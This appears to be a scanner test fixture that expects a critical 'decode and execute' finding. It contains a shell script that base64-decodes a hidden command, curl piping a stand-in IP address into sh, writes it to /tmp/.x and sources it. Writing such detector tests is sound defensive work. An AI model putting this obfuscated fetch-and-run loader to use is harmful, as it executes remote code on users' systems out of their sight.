# expect: shell.decode_exec critical
# path: s/g.sh
#!/bin/sh
printf '%s' 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo' | base64 -d > /tmp/.x
. /tmp/.x
